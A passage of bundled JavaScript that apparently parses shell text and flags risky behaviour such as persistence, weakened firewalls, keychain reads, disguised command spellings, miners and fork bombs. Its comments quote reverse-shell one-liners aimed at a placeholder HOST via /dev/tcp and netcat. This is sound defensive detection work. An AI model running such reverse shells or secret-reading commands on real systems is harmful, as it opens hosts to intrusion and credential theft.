    ['launchctl', registers('launch-agent', /\b(?:load|bootstrap|enable|submit)\b/u)],
    ['schtasks schtasks.exe', registers('scheduled-task', /\/create\b/iu)],
    ['reg reg.exe', registers('run-key', /\badd\b.{0,300}\\(?:Run|RunOnce|Winlogon|Image File Execution Options)\b/iu)],
    ['useradd adduser usermod dscl', registers('account', /^(?:useradd|adduser)\b|-aG\s+(?:sudo|wheel|root|docker|admin)|-create\s/u)],
    ['visudo', registers('sudoers', /./u)],
    ['ufw', weakens(/\bdisable\b/u)],
    ['iptables', weakens(/\s(?:-F|--flush|-P\s+\w+\s+ACCEPT)/u)],
    ['setenforce', weakens(/\s0|permissive/iu)],
    ['spctl', weakens(/--(?:master|global)-disable/u)],
    ['csrutil', weakens(/\bdisable\b/u)],
    ['tccutil', weakens(/\breset\b/u)],
    ['auditctl', weakens(/-e\s*0|-D\b/u)],
    ['env printenv set', environment],
    ['export declare typeset local readonly', declare],
    ['unset', unset],
    ['history fc', system_history],
    ['find fd', find],
    ['pbpaste wl-paste', reveals('clipboard', /./u)],
    ['xclip xsel', reveals('clipboard', /\s-{1,2}o(?:ut(?:put)?)?\b/u)],
    ['security', reveals('keychain', /\b(?:find-(?:generic|internet)-password|dump-keychain|export)\b/u)],
    ['secret-tool pass keyctl cmdkey vaultcmd', reveals('keychain', /\b(?:lookup|search|show|print|\/list)\b/u)],
    ['gpg gpg2', reveals('private-key', /--export-secret/u)],
    ['screencapture scrot gnome-screenshot import grim maim ffmpeg-capture imagesnap', capture],
    ['whoami hostname id uname ifconfig ip sw_vers system_profiler lscpu', identity],
    ['docker podman nerdctl', container],
    ['read', readLine],
    ['xmrig xmr-stak minerd cpuminer ethminer t-rex nbminer lolminer phoenixminer ccminer cgminer bfgminer nanominer', miner],
    ['type more', (call) => (call.args.some((arg) => /[\\%]/u.test(arg.text)) ? typeFile(call) : NOTHING)],
    ['certutil', certutil],
    ['bitsadmin', bitsadmin],
    ['mshta regsvr32 rundll32 msiexec wscript cscript', proxyExecution],
    ['del erase rd format', removeWindows],
    ['start', start],
    ['vssadmin wevtutil bcdedit wbadmin', recovery],
    ['netsh', netsh],
    ['git', git],
    [
        'pip pip2 pip3 pip3.11 pip3.12 uv poetry conda mamba micromamba npm pnpm yarn gem cargo go brew apt apt-get yum dnf apk pacman zypper',
        packages_packages,
    ],
    ['npx uvx pipx bunx pnpx', runner],
    [
        'cd pushd popd mkdir touch ls true false test [ [[ : wait sleep exit return shift break continue trap alias pwd which hash ulimit umask dirname basename realpath readlink date seq expr let getopts stat file tput clear diff cmp bc yes',
        none,
    ],
    [
        'iwr irm iex wget.exe invoke-webrequest invoke-restmethod invoke-expression start-process set-executionpolicy add-mppreference set-mppreference new-object set-content get-content start-bitstransfer remove-item',
        powershellInShell,
    ],
];
const COMMANDS = new Map(entries.flatMap(([names, reader]) => names.split(' ').map((name) => [name, reader])));
/** Separate words that stand for filters with other names would hide real ones; these names exist only above. */
const ECHOING = /^(?:basename|dirname|realpath|readlink|date|seq|expr|hostname)$/u;
/** Reads one command: by its name where it is known, else as a program of which only the arguments are known. */
function readCommand(call, first) {
    const reader = COMMANDS.get(call.name) ?? COMMANDS.get(call.name.toLowerCase()) ?? (interpreterOf(call.name) ? interpreter : undefined);
    if (reader) {
        noteDisguise(call);
        const value = reader(call);
        return reader === none && ECHOING.test(call.name) ? derived(originsOf(call.args)) : value;
    }
    return readUnknown(call, first);
}
/** A known command under a spelling that hides it is itself worth noting, whatever it does. */
function noteDisguise(call) {
    if (call.flags.includes('disguised'))
        note(call, 'execute', { target: commandLine(call) });
}
function readUnknown(disguised, first) {
    const call = { ...disguised, flags: disguised.flags.filter((flag) => flag !== 'disguised') };
    const bare = call.name.replace(/^\.\//u, '');
    const written = call.reading.files.get(call.name) ?? call.reading.files.get(bare) ?? fileInFolder(call, bare);
    const origins = union(first.origins, written?.origins ?? []);
    const line = commandLine(call);
    const evaluates = first.origins.length > 0 && written === undefined;
    note(call, evaluates ? 'evaluate' : 'execute', { target: line, flowsFrom: union(origins, originsOf([call.stdin, ...call.args])) });
    noteMining(call, line);
    if (call.name.startsWith(':()'))
        note(call, 'exhaust', { target: line });
    return derived(originsOf([call.stdin, ...call.args, { ...derived(origins) }]));
}
/** A file of a cloned folder, or of an archive that was unpacked. */
function fileInFolder(call, path) {
    const folder = /^([^/]{1,100}\/)/u.exec(path)?.[1];
    const cloned = folder === undefined ? undefined : call.reading.files.get(folder);
    if (cloned)
        return cloned;
    return call.name.startsWith('./') ? call.reading.files.get('*extracted*') : undefined;
}
function noteMining(call, line) {
    if (/\s-{1,2}(?:o|url|pool|P|S)[ =]\S{0,200}stratum[12]?\+(?:tcp|ssl|tls)[12]?:\/\/|--donate-level\b|--coin[= ](?:monero|xmr)\b|(?:^|\/)xmrig\b/iu.test(line))
        note(call, 'mine', { target: line });
}

;// CONCATENATED MODULE: ./lib/skills/code/shell/expand.js


/** Expands words into arguments: variables, substitutions, quotes; unquoted expansions with spaces become several. */
function expandWords(words, around) {
    const out = [];
    for (const word of words) {
        if (out.length > 2000)
            break;
        for (const argument of expandWord(word, around))
            out.push(argument);
    }
    return out;
}
function expandWord(word, around) {
    const plain = plainArgument(word);
    if (plain)
        return [plain];
    const values = word.parts.map((part) => valueOfPart(part, word, around));
    const whole = concat(values);
    const disguised = isDisguised(word, whole, values);
    const only = word.parts.length === 1 ? word.parts[0] : undefined;
    const exact = only?.kind === 'text' && only.quoting !== 'escape' && only.quoting !== 'ansi'
        ? word.start + (only.quoting === 'none' ? 0 : 1)
        : undefined;
    const base = { start: word.start, end: word.end, disguised };
    if (needsSplitting(word, whole)) {
        return whole.text
            .split(/[ \t\n]+/u)
            .filter((piece) => piece !== '')
            .slice(0, 200)
            .map((piece) => ({ ...whole, text: piece, ...base }));
    }
    const braces = only?.kind === 'text' && only.quoting === 'none' ? /^\{([^{}\s]{1,200},[^{}\s]{0,200})\}$/u.exec(only.text)?.[1] : undefined;
    if (braces !== undefined)
        return braces.split(',').map((piece) => ({ ...literal(piece), ...base, disguised: true }));
    return [{ ...whole, ...base, ...(exact === undefined ? {} : { exact }) }];
}
/** The usual case, made cheap: one piece of text without anything to expand. */
function plainArgument(word) {
    const [only] = word.parts;
    if (word.parts.length !== 1 || only?.kind !== 'text' || only.quoting === 'escape' || only.quoting === 'ansi')
        return undefined;
    if (only.quoting === 'none' && only.text.startsWith('{'))
        return undefined;
    const exact = word.start + (only.quoting === 'none' ? 0 : 1);
    return { text: only.text, known: true, origins: NO_ORIGINS, start: word.start, end: word.end, disguised: false, exact };
}
function valueOfPart(part, word, around) {
    if (part.kind === 'text')
        return literal(part.text);
    if (part.kind === 'command') {
        const misspelt = /^\$\(\s{0,3}([A-Z][A-Z0-9]{0,30}(?:_[A-Z0-9]{1,30}){1,6})\s{0,3}\)$/u.exec(part.raw)?.[1];
        // `$(NAME)` is how make and some templates spell a variable; no command bears such a name.
        if (misspelt !== undefined)
            return around.variables.get(misspelt) ?? around.readVariable(misspelt, part.raw, word);
        const value = around.substitute(part.pipelines);
        return value.known ? { ...value, text: value.text.replace(/\n+$/u, '') } : derived(value.origins, part.raw);
    }
    if (part.kind === 'process')
        return derived(around.substitute(part.pipelines).origins, part.raw);
    if (part.name === 'IFS')
        return literal(' ');
    if (part.name === '')
        return derived(NO_ORIGINS, part.raw);
    const value = around.variables.get(part.name) ?? around.readVariable(part.name, part.raw, word);
    return part.operation === '' ? value : operated(value, part.operation, part.raw);
}
/** Parameter expansion with an operation (XCU 2.6.2): substrings and replacements of known text are carried out. */
function operated(value, operation, raw) {
    const fallback = /^:?[-=]([\s\S]{0,500})$/u.exec(operation)?.[1];
    if (fallback !== undefined)
        return value.known ? value : { ...derived(value.origins, raw) };
    if (!value.known)
        return derived(value.origins, raw);
    const piece = /^:\s{0,4}(-?\d{1,6})(?::\s{0,4}(-?\d{1,6}))?$/u.exec(operation);
    if (piece) {
        const from = Number(piece[1]);
        const text = value.text.slice(from);
        const length = piece[2] === undefined ? undefined : Number(piece[2]);
        return literal(length === undefined ? text : text.slice(0, length), value.origins);
    }
    const swap = /^\/(\/?)([^/]{1,100})\/?([^/]{0,100})$/u.exec(operation);
    if (swap && !/[*?[]/u.test(swap[2] ?? '')) {
        const [from, to] = [swap[2] ?? '', swap[3] ?? ''];
        return literal(swap[1] === '/' ? value.text.split(from).join(to) : value.text.replace(from, () => to), value.origins);
    }
    return derived(value.origins, raw);
}
function needsSplitting(word, whole) {
    if (!/[ \t\n]/u.test(whole.text))
        return false;
    return (word.parts.some((part) => (part.kind === 'variable' && !part.quoted && part.name !== '') || (part.kind === 'variable' && part.name === 'IFS')) && whole.known);
}
/**
 * True for a spelling that serves no reader: quotes or escapes within a plain word (`c''url`, `cu\rl`), letters as
 * escapes (`$'\x63url'`), `${IFS}` for a space, a word put together from several variables. A leading backslash (which skips an alias)
 * and a quoted whole word are usual.
 */
function isDisguised(word, whole, values) {
    const { parts } = word;
    if (parts.some((part) => part.kind === 'variable' && part.name === 'IFS'))
        return true;
    if (!whole.known || !/^[\w./-]{2,60}$/u.test(whole.text))
        return false;
    const variables = parts.filter((part) => part.kind === 'variable');
    if (variables.length > 0) {
        const pieces = values.filter((value) => value.text !== '');
        return (pieces.length > 1 && variables.length > 1 && pieces.every((value) => value.text.length <= 6) && /^[a-z0-9]{2,12}$/u.test(whole.text));
    }
    return hidesInText(parts, whole.text);
}
function hidesInText(parts, text) {
    if (parts.some((part) => part.kind === 'text' && part.quoting === 'ansi' && part.text === text && /^[a-z]/u.test(text)))
        return true;
    if (parts.length < 2 || !/^[a-z0-9/_.-]{2,40}$/u.test(text))
        return false;
    let borders = 0;
    for (let index = 1; index < parts.length; index += 1) {
        const [before, after] = [parts[index - 1], parts[index]];
        if (before?.kind !== 'text' || after?.kind !== 'text')
            return false;
        const leadingEscape = index === 1 && before.quoting === 'escape';
        const inner = /[a-z]$/u.test(before.text) || /^[a-z]/u.test(after.text);
        if (!leadingEscape && inner && before.quoting !== after.quoting && !/[/.=_-]$/u.test(before.text) && !/^[/.=_-]/u.test(after.text))
            borders += 1;
    }
    return borders > 0;
}
/** Output of several pipelines after each other. */
function joinOutputs(values) {
    if (values.length === 0)
        return NOTHING;
    const known = values.every((value) => value.known);
    let origins = NO_ORIGINS;
    for (const value of values)
        origins = union(origins, value.origins);
    const text = values.map((value) => value.text).join('');
    return known ? literal(text, origins) : derived(origins, text.slice(0, 2000));
}

;// CONCATENATED MODULE: ./lib/skills/code/shell/idioms.js

const SHELL_NAME = /(?:^|\/)(?:ba|z|da|k|a|tc|c|fi)?sh$|(?:^|\/)(?:python[\d.]*|cmd|powershell|pwsh)(?:\.exe)?$/u;
const PEER_NAME = /(?:^|\/)(?:nc|ncat|netcat|nc\.traditional|telnet|socat|openssl)$/u;
const DEVICE = /^\/dev\/(?:tcp|udp)\/([^/\s]{1,200})\/[^/\s]{1,20}$/u;
/** A shell with its input or output on bash's network device: `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `exec 5<>/dev/tcp/…; sh <&5 >&5`. */
function noteShellOnDevice(command, reading) {
    const name = plainText(command.words[0]);
    const device = command.redirects.map((redirect) => DEVICE.exec(plainText(redirect.target))).find((match) => match !== null);
    if (device && (name === 'exec' || name === ''))
        reading.files.set('*device*', { origins: [], text: device[0] });
    const opened = reading.files.get('*device*')?.text;
    const duplicates = command.redirects.some((redirect) => /^[<>]&$/u.test(redirect.operator) && /^[3-9]$|^\d{2,3}$/u.test(plainText(redirect.target)));
    const runsLines = name === '' || name.startsWith('$') || SHELL_NAME.test(name) || name === 'eval' || command.words[0]?.parts[0]?.kind === 'variable';
    const target = device && SHELL_NAME.test(name)
        ? device[0]
        : opened !== undefined && duplicates && runsLines && command.words.length > 0
            ? opened
            : undefined;
    if (target === undefined)
        return;
    const host = DEVICE.exec(target)?.[1] ?? '';
    reading.note({
        kind: 'connect-shell',
        start: command.start,
        end: command.end,
        name: name === '' ? 'shell' : name,
        target,
        host: classifyHost(host).class,
    });
}
/** A shell in a pipe to a connection: `cat fifo | sh -i | nc HOST PORT > fifo`, `telnet HOST 1 | sh | telnet HOST 2`. */
function noteShellBetweenPeers(pipeline, reading) {
    if (pipeline.commands.length < 2)
        return;
    const names = pipeline.commands.map((command) => plainText(command.words[0]));
    const peer = names.findIndex((name) => PEER_NAME.test(name));
    const last = names.findLastIndex((name) => PEER_NAME.test(name));
    const shell = names.findIndex((name, index) => SHELL_NAME.test(name) && index > 0 && index < last && isBare(pipeline.commands[index]));
    const first = pipeline.commands[0];
    const interactive = first &&
        SHELL_NAME.test(names[0] ?? '') &&
        last > 0 &&
        (first.words.some((word) => plainText(word).startsWith('-i')) || first.redirects.some((redirect) => redirect.operator === '<'));
    const connection = pipeline.commands[last === -1 ? peer : last];
    if ((shell === -1 && !interactive) || !connection)
        return;
    const target = connection.words.slice(1).map(plainText).join(' ').slice(0, 200);
    const host = connection.words
        .slice(1)
        .map(plainText)
        .find((word) => !word.startsWith('-'));
    reading.note({
        kind: 'connect-shell',
        start: pipeline.start,
        end: pipeline.end,
        name: names[last] ?? 'nc',
        target,
        host: classifyHost(host ?? '').class,
    });
}
/** A function that pipes itself into itself in the background. */
function noteForkBomb(command, reading) {
    for (const pipeline of command.body) {
        const self = pipeline.commands.filter((inner) => plainText(inner.words[0]) === command.name);
        if (self.length >= 2 && pipeline.separator === '&')
            reading.note({ kind: 'exhaust', start: command.start, end: command.end, name: command.name });
    }
}
function isBare(command) {
    return command?.words.slice(1).every((word) => /^-[a-z]{0,4}$/u.test(plainText(word))) === true;
}
/** The text of a word without expansions; empty when it has any. */
function plainText(word) {
    let text = '';
    for (const part of word?.parts ?? []) {
        if (part.kind === 'text')
            text += part.text;
        else
            return part.kind === 'variable' ? part.raw : '';
    }
    return text;
}

;// CONCATENATED MODULE: ./lib/skills/code/shell/redirects.js



/** bash's own network devices (manual 3.6). */
const NETWORK_DEVICE = /^\/dev\/(?:tcp|udp)\/([^/\s]{1,200})\/([^/\s]{1,20})$/u;
/** What a command reads from after its input redirections. */
function applyInput(redirects, stdin, expand, reading) {
    let input = stdin;
    for (const redirect of redirects) {
        const { operator, target } = redirect;
        const place = { start: target.start, end: target.end };
        if (operator === '<<' || operator === '<<<') {
            const value = expand(target);
            input = { ...value, text: operator === '<<<' ? `${value.text}\n` : value.text };
        }
        else if (operator === '<' || operator === '<>') {
            const [only] = target.parts;
            const value = expand(target);
            if (only?.kind === 'process')
                input = value;
            else if (NETWORK_DEVICE.test(value.text))
                input = openDevice(value, place, reading, 'fetch', NOTHING);
            else if (operator === '<' && !/^\/dev\/(?:null|zero|tty|stdin|fd\/)/u.test(value.text))
                input = reading.readPath(value, '<', place);
        }
    }
    return input;
}
/** Notes what output redirections write; gives what is left for the pipe. */
function applyOutput(redirects, output, expand, reading, command) {
    let rest = output;
    for (const redirect of redirects) {
        const { operator, target } = redirect;
        if (!operator.includes('>') || operator === '<>')
            continue;
        const [only] = target.parts;
        if ((operator === '>&' || operator === '<&') && only?.kind === 'text' && /^\d{1,3}-?$|^-$/u.test(only.text))
            continue;
        const path = expand(target);
        if (/^\/dev\/(?:null|std(?:out|err)|tty|fd\/\d)$|^(?:NUL|nul|\$null|&\d)$/u.test(path.text)) {
            if (redirect.descriptor !== 2)
                rest = NOTHING;
            continue;
        }
        if (NETWORK_DEVICE.test(path.text))
            openDevice(path, command, reading, 'send', output);
        else if (only?.kind !== 'process' && path.text !== '') {
            reading.writePath(path, redirect.descriptor === 2 ? NOTHING : output, operator, command, operator.includes('>>') ? ['append'] : []);
        }
        if (redirect.descriptor !== 2)
            rest = NOTHING;
    }
    return rest;
}
function openDevice(path, place, reading, kind, payload) {
    const host = NETWORK_DEVICE.exec(path.text)?.[1] ?? '';
    const facts = classifyHost(host);
    const flowsFrom = union(payload.origins, path.origins);
    const deed = reading.note({ kind, ...place, name: '/dev/tcp', target: path.text, host: facts.class, flags: ['body'], flowsFrom });
    return derived(plus(NO_ORIGINS, deed));
}

;// CONCATENATED MODULE: ./lib/skills/code/shell/read-shell.js

/** Longest text that is read as shell, in UTF-16 units; what lies beyond counts as truncated. */
const MAX_LENGTH = 4_000_000;
const MAX_PIPELINES = 20_000;
/**
 * Splits shell text into pipelines: quotes, escapes, substitutions, here-documents, groups, loops and functions are
 * understood (POSIX XCU 2, with bash's extensions). Never throws; text that is no shell comes out as odd words. Linear in the text.
 */
function shellCommands(text, depth = 0) {
    const reader = new ShellReader(text.length > MAX_LENGTH ? text.slice(0, MAX_LENGTH) : text, depth);
    const pipelines = reader.readList([]);
    return { pipelines, truncated: reader.truncated || text.length > MAX_LENGTH };
}
/** Words that only order what stands between them. */
const CONNECTORS = new Set(['then', 'do', 'else', 'elif', '!', 'time', 'in']);
const OPENERS = {
    if: ['fi'],
    while: ['done'],
    until: ['done'],
    for: ['done'],
    select: ['done'],
    case: ['esac'],
};
const CLOSERS = new Set(['fi', 'done', 'esac', '}']);
const REDIRECT = /(\d{0,3})(<<<|<<-?|&>>|&>|>>|>\||>&|<&|<>|<(?!\()|>(?!\())/uy;
class ShellReader {
    #cursor;
    #pending = [];
    #count = 0;
    constructor(text, depth) {
        this.#cursor = { text, at: 0, unclosed: new Set(), depth, truncated: false };
    }
    get truncated() {
        return this.#cursor.truncated;
    }
    /** Reads pipelines up to one of the closing words or brackets, which is consumed. */
    readList(closers) {
        const pipelines = [];
        const cursor = this.#cursor;
        if (cursor.depth >= MAX_DEPTH) {
            cursor.truncated = true;
            this.#skipTo(closers);
            return pipelines;
        }
        cursor.depth += 1;
        while (cursor.at < cursor.text.length) {
            this.#skipBlank();
            if (this.#closes(closers))
                break;
            const before = cursor.at;
            const pipeline = this.#readPipeline(closers);
            if (pipeline.commands.length > 0)
                pipelines.push(pipeline);
            if (cursor.at === before)
                cursor.at += 1;
            this.#count += 1;
            if (this.#count > MAX_PIPELINES) {
                cursor.truncated = true;
                cursor.at = cursor.text.length;
            }
        }
        cursor.depth -= 1;
        return pipelines;
    }
    #skipTo(closers) {
        const closer = closers[0];
        const { text } = this.#cursor;
        const end = closer === undefined ? -1 : text.indexOf(closer, this.#cursor.at);
        this.#cursor.at = end === -1 ? text.length : end + (closer ?? '').length;
    }
    #closes(closers) {
        const cursor = this.#cursor;
        for (const closer of closers) {
            if (!cursor.text.startsWith(closer, cursor.at))
                continue;
            const after = cursor.text.charCodeAt(cursor.at + closer.length);
            if (closer.length > 1 && (isNameUnit(after) || after === 0x2d))
                continue;
            cursor.at += closer.length;
            return true;
        }
        return false;
    }
    /** Skips white space, comments, separators and line ends between commands. */
    #skipBlank() {
        const cursor = this.#cursor;
        for (;;) {
            const unit = cursor.text[cursor.at];
            if (unit === '\n')
                this.#readHeredocs();
            else if (unit === '#')
                cursor.at = endOfLine(cursor.text, cursor.at);
            else if (unit === ' ' || unit === '\t' || unit === '\r' || unit === ';' || unit === '&' || unit === '|')
                cursor.at += 1;
            else
                return;
        }
    }
    #skipSpace() {
        const cursor = this.#cursor;
        for (;;) {
            const unit = cursor.text[cursor.at];
            if (unit === ' ' || unit === '\t' || unit === '\r' || unit === '\u00a0')
                cursor.at += 1;
            else if (unit === '\\' && /^\\\r?\n/u.test(cursor.text.slice(cursor.at, cursor.at + 3)))
                cursor.at += cursor.text[cursor.at + 1] === '\n' ? 2 : 3;
            else
                return;
        }
    }
    #readPipeline(closers) {
        const cursor = this.#cursor;
        const start = cursor.at;
        const commands = [];
        let end = start;
        for (;;) {
            const command = this.#readCommand(closers);
            if (command) {
                commands.push(command);
                end = command.end;
            }
            this.#skipSpace();
            if (!this.#takePipe())
                break;
        }
        return { start, end, commands, separator: this.#takeSeparator() };
    }
    #takePipe() {
        const cursor = this.#cursor;
        if (cursor.text[cursor.at] !== '|' || cursor.text[cursor.at + 1] === '|')
            return false;
        cursor.at += cursor.text[cursor.at + 1] === '&' ? 2 : 1;
        for (;;) {
            this.#skipSpace();
            if (cursor.text[cursor.at] !== '\n')
                return true;
            this.#readHeredocs();
        }
    }
    #takeSeparator() {
        const cursor = this.#cursor;
        const two = cursor.text.slice(cursor.at, cursor.at + 2);
        if (two === '&&' || two === '||' || two === ';;') {
            cursor.at += 2;
            return two;
        }
        const one = two.charAt(0);
        if (one === ';' || one === '&')
            cursor.at += 1;
        return one === ';' || one === '&' || one === '\n' ? one : '';
    }
    #readCommand(closers) {
        const cursor = this.#cursor;
        this.#skipSpace();
        this.#skipPrompt();
        const start = cursor.at;
        if (cursor.text[start] === '(')
            return this.#readGroup(start, ')', 1);
        if (cursor.text[start] === '{' && /\s/u.test(cursor.text[start + 1] ?? ''))
            return this.#readGroup(start, '}', 1);
        const keyword = this.#keyword();
        if (keyword !== '') {
            if (CONNECTORS.has(keyword)) {
                cursor.at += keyword.length;
                return this.#readCommand(closers);
            }
            if (CLOSERS.has(keyword)) {
                if (closers.includes(keyword))
                    return undefined;
                cursor.at += keyword.length;
                return undefined;
            }
            const closing = OPENERS[keyword];
            if (closing)
                return this.#readCompound(start, keyword, closing);
        }
        return this.#readSimple(start, closers);
    }
    /** `$ ` and `% ` at the start of a line of documentation are a prompt. */
    #skipPrompt() {
        const cursor = this.#cursor;
        const unit = cursor.text[cursor.at];
        if ((unit === '$' || unit === '%' || unit === '❯' || unit === '➜') && cursor.text[cursor.at + 1] === ' ') {
            cursor.at += 2;
            this.#skipSpace();
        }
    }
    #keyword() {
        const { text, at } = this.#cursor;
        const match = /^(?:[a-z]{2,6}|[!}])(?=[\s;&|)]|$)/u.exec(text.slice(at, at + 8));
        const word = match?.[0] ?? '';
        return CONNECTORS.has(word) || CLOSERS.has(word) || word in OPENERS ? word : '';
    }
    #readGroup(start, closer, width) {
        this.#cursor.at += width;
        const body = this.readList([closer]);
        return this.#withRedirects(start, { words: [], assignments: [], body, shape: 'group', name: '' });
    }
    #readCompound(start, keyword, closing) {
        const cursor = this.#cursor;
        cursor.at += keyword.length;
        this.#skipSpace();
        let name = '';
        const words = [];
        if (keyword === 'for' || keyword === 'select') {
            name = /^[A-Za-z_]\w{0,100}/u.exec(cursor.text.slice(cursor.at, cursor.at + 101))?.[0] ?? '';
            cursor.at += name.length;
            this.#skipSpace();
            if (/^in\s/u.test(cursor.text.slice(cursor.at, cursor.at + 3))) {
                cursor.at += 2;
                this.#readWords(words, []);
            }
        }
        else if (keyword === 'case') {
            this.#readWords(words, []);
        }
        const body = this.readList(closing);
        return this.#withRedirects(start, { words, assignments: [], body, shape: 'loop', name });
    }
    #withRedirects(start, made) {
        const redirects = [];
        for (;;) {
            this.#skipSpace();
            const redirect = this.#readRedirect();
            if (!redirect)
                break;
            redirects.push(redirect);
        }
        return { start, end: this.#cursor.at, redirects, ...made };
    }
    #readWords(words, redirects) {
        for (;;) {
            this.#skipSpace();
            const redirect = this.#readRedirect();
            if (redirect) {
                redirects.push(redirect);
                continue;
            }
            const word = this.#readWord();
            if (!word)
                return;
            words.push(word);
        }
    }
    #readWord() {
        if (this.#cursor.text[this.#cursor.at] === '#')
            return undefined;
        return readWord(this.#cursor, (closing) => this.readList([closing]));
    }
    #readSimple(start, closers) {
        const cursor = this.#cursor;
        const words = [];
        const redirects = [];
        const assignments = [];
        for (;;) {
            this.#skipSpace();
            const redirect = this.#readRedirect();
            if (redirect) {
                redirects.push(redirect);
                continue;
            }
            if (closers.includes(cursor.text[cursor.at] ?? '') && cursor.text[cursor.at] !== '}')
                break;
            const assignment = words.length === 0 ? this.#readAssignment() : undefined;
            if (assignment) {
                assignments.push(assignment);
                continue;
            }
            const word = this.#readWord();
            if (!word)
                break;
            words.push(word);
            if (words.length === 1 && this.#takeFunctionHeader(words))
                return this.#readFunction(start, words);
        }
        if (words.length === 0 && redirects.length === 0 && assignments.length === 0) {
            this.#skipStray(closers);
            return undefined;
        }
        return { start, end: lastEnd(words, redirects, assignments), words, redirects, assignments, body: [], shape: 'simple', name: '' };
    }
    /** A closing bracket that nothing opened, or the `)` after a pattern of `case`. */
    #skipStray(closers) {
        const unit = this.#cursor.text[this.#cursor.at];
        if ((unit === ')' || unit === '<' || unit === '>') && !closers.includes(unit))
            this.#cursor.at += 1;
    }
    /** `name()`, or `function name`. */
    #takeFunctionHeader(words) {
        const cursor = this.#cursor;
        const first = words[0];
        const source = first ? cursor.text.slice(first.start, first.end) : '';
        const ahead = cursor.text.slice(cursor.at, cursor.at + 160);
        const header = source === 'function'
            ? /^\s{1,8}[\w.:-]{1,100}(?:\s{0,8}\(\s{0,8}\))?\s{0,40}\{(?=\s)/u.exec(ahead)
            : /^\s{0,8}\(\s{0,8}\)\s{0,40}\{(?=\s)/u.exec(ahead);
        if (!header || !/^[\w.:-]{1,100}$/u.test(source))
            return false;
        cursor.at += header[0].length;
        return true;
    }
    #readFunction(start, words) {
        const first = words[0];
        const header = first ? this.#cursor.text.slice(first.start, this.#cursor.at) : '';
        const name = /^(?:function\s{1,8})?([\w.:-]{1,100})/u.exec(header)?.[1] ?? '';
        const body = this.readList(['}']);
        return { start, end: this.#cursor.at, words: [], redirects: [], assignments: [], body, shape: 'function', name };
    }
    #readAssignment() {
        const cursor = this.#cursor;
        const match = /^([A-Za-z_]\w{0,100})(\+?)=/u.exec(cursor.text.slice(cursor.at, cursor.at + 104));
        if (!match)
            return undefined;
        cursor.at += match[0].length;
        if (cursor.text[cursor.at] === '(')
            return this.#readArray(match[1] ?? '');
        const value = this.#readWord() ?? { start: cursor.at, end: cursor.at, parts: [] };
        return { name: match[1] ?? '', value, append: match[2] === '+' };
    }
    /** `name=(a b c)`: its words as one value, joined by spaces. */
    #readArray(name) {
        const cursor = this.#cursor;
        const start = cursor.at;
        cursor.at += 1;
        const words = [];
        for (;;) {
            this.#readWords(words, []);
            if (cursor.text[cursor.at] === '\n')
                this.#readHeredocs();
            else if (cursor.text[cursor.at] === '#')
                cursor.at = endOfLine(cursor.text, cursor.at);
            else
                break;
        }
        if (cursor.text[cursor.at] === ')')
            cursor.at += 1;
        const parts = words.flatMap((word, index) => index === 0 ? word.parts : [{ kind: 'text', text: ' ', quoting: 'double' }, ...word.parts]);
        return { name, value: { start, end: cursor.at, parts }, append: false };
    }
    #readRedirect() {
        const cursor = this.#cursor;
        REDIRECT.lastIndex = cursor.at;
        const match = REDIRECT.exec(cursor.text);
        if (!match)
            return undefined;
        const operator = match[2] ?? '';
        cursor.at += match[0].length;
        this.#skipSpace();
        const descriptor = match[1] ? Number(match[1]) : operator.startsWith('<') ? 0 : 1;
        const word = this.#readWord() ?? { start: cursor.at, end: cursor.at, parts: [] };
        if (operator === '<<' || operator === '<<-')
            return { operator: '<<', descriptor, target: this.#expectHeredoc(word, operator === '<<-') };
        return { operator, descriptor, target: word };
    }
    #expectHeredoc(word, stripTabs) {
        let delimiter = '';
        let plain = false;
        for (const part of word.parts) {
            if (part.kind !== 'text')
                continue;
            delimiter += part.text;
            plain ||= part.quoting !== 'none';
        }
        const body = { start: word.end, end: word.end, parts: [] };
        if (delimiter !== '')
            this.#pending.push({ delimiter, stripTabs, plain, body });
        return body;
    }
    /** At a line's end: reads the bodies of the here-documents that the line announced, then moves on. */
    #readHeredocs() {
        const cursor = this.#cursor;
        cursor.at += 1;
        for (const heredoc of this.#pending.splice(0)) {
            const start = cursor.at;
            const end = this.#endOfHeredoc(heredoc);
            heredoc.body.start = start;
            heredoc.body.end = end;
            heredoc.body.parts = heredocParts(cursor.text.slice(start, end), heredoc.plain, cursor.depth);
        }
    }
    #endOfHeredoc(heredoc) {
        const cursor = this.#cursor;
        const { text } = cursor;
        while (cursor.at < text.length) {
            const start = cursor.at;
            const end = endOfLine(text, start);
            cursor.at = Math.min(text.length, end + 1);
            const line = text.slice(start, Math.min(end, start + heredoc.delimiter.length + 64)).replace(/\r$/u, '');
            if (line === heredoc.delimiter ||
                (heredoc.stripTabs && line.replace(/^\t+/u, '') === heredoc.delimiter) ||
                line.trim() === heredoc.delimiter)
                return start;
        }
        return text.length;
    }
}
/** The text of a here-document; substitutions in it are read when it is not quoted. */
function heredocParts(text, plain, depth) {
    if (plain || !/[$`]/u.test(text))
        return [{ kind: 'text', text, quoting: 'single' }];
    const escaped = text.replace(/"/gu, '\\"');
    const reader = shellCommands(`: "${escaped}"`, depth + 1);
    const word = reader.pipelines[0]?.commands[0]?.words[1];
    return word?.parts ?? [{ kind: 'text', text, quoting: 'double' }];
}
function lastEnd(words, redirects, assignments) {
    const ends = [words.at(-1)?.end ?? 0, assignments.at(-1)?.value.end ?? 0];
    for (const redirect of redirects)
        if (redirect.operator !== '<<')
            ends.push(redirect.target.end);
        else
            ends.push(redirect.target.start);
    return Math.max(...ends);
}
function endOfLine(text, from) {
    const end = text.indexOf('\n', from);
    return end === -1 ? text.length : end;
}
function isNameUnit(code) {
    return (code >= 0x30 && code <= 0x39) || (code >= 0x41 && code <= 0x5a) || (code >= 0x61 && code <= 0x7a) || code === 0x5f;
}

;// CONCATENATED MODULE: ./lib/skills/code/shell/secret-name.js
/** Names of variables that hold secrets. */
const SECRET_NAME = /(?:TOKEN|SECRET|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|PASSWORD|PASSWD|CREDENTIAL|_KEY$|^AUTH)/iu;

;// CONCATENATED MODULE: ./lib/skills/code/shell/run.js








/** How often one function is followed. */
const MAX_ENTRIES = 12;
/** Longest nesting of functions, substitutions and groups that is followed. */
const MAX_CALLS = 60;
/** Follows shell text and notes what it does; gives what it prints. */
function followShell(text, reading) {
    const script = shellCommands(text);
    if (script.truncated)
        reading.trace.truncated = true;
    return new ShellRun(reading).follow(script.pipelines, NOTHING);
}
/** Follows one command of which the words are known already, as a program gives them to `execve`. */
function followWords(words, stdin, place, reading) {
    const args = words.map((word) => ({ ...word, ...place, disguised: false }));
